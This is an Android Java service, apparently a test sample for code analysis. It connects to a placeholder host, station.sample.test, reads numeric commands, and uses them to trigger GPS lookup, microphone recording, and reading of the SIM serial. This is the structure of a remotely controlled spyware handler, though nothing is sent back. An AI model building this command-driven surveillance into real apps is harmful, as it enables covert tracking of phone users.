package org.example;

import android.app.Service;
import android.content.Intent;
import android.location.LocationManager;
import android.media.MediaRecorder;
import android.os.Bundle;
import android.os.Handler;
import android.os.IBinder;
import android.os.Message;
import android.telephony.TelephonyManager;
import java.io.FileInputStream;
import java.io.InputStream;
import java.net.Socket;
import java.nio.ByteBuffer;

/** What comes in a socket decides, by numbers that a class works out; compiled by javac and d8. */
public class Station extends Service {
  private Socket socket;
  private InputStream in;
  private final byte[] received = new byte[64];

  final Handler handler =
      new Handler() {
        @Override
        public void handleMessage(Message message) {
          Bundle told = message.getData();
          obey(told.getShort("command"));
          choose(told.getShort("own"));
        }
      };

  @Override
  public int onStartCommand(Intent intent, int flags, int id) {
    try {
      socket = new Socket("station.sample.test", 4000);
      in = socket.getInputStream();
      read();
      own();
    } catch (Exception broken) {
      stopSelf();
    }
    return START_STICKY;
  }

  @Override
  public IBinder onBind(Intent intent) {
    return null;
  }

  void read() throws Exception {
    int length = in.read(received);
    ByteBuffer packet = ByteBuffer.wrap(received, 0, length);
    Bundle bundle = new Bundle();
    bundle.putShort("command", packet.getShort());
    Message message = new Message();
    message.setData(bundle);
    handler.sendMessage(message);
  }

  void own() throws Exception {
    byte[] kept = new byte[2];
    new FileInputStream("/data/data/org.example/files/state").read(kept);
    Bundle bundle = new Bundle();
    bundle.putShort("own", kept[0]);
    Message message = new Message();
    message.setData(bundle);
    handler.sendMessage(message);
  }

  void obey(short command) {
    if (command == Codes.PLACE) {
      place();
    } else if (command == Codes.SOUND) {
      sound();
    } else if (command == Codes.CARD) {
      card();
    }
  }

  void choose(short state) {
    if (state == Codes.PLACE) {
      place();
    } else if (state == Codes.SOUND) {
      sound();
    } else if (state == Codes.CARD) {
      card();
    }
  }

  void place() {
    ((LocationManager) getSystemService("location")).getLastKnownLocation("gps");
  }

  void sound() {
    MediaRecorder recorder = new MediaRecorder();
    recorder.setAudioSource(1);
    recorder.start();
  }

  void card() {
    ((TelephonyManager) getSystemService("phone")).getSimSerialNumber();
  }

  static class Codes {
    private static short base = 100;
    static final short PLACE = (short) (base + 1);
    static final short SOUND = (short) (base + 2);
    static final short CARD = (short) (base + 3);
  }
}
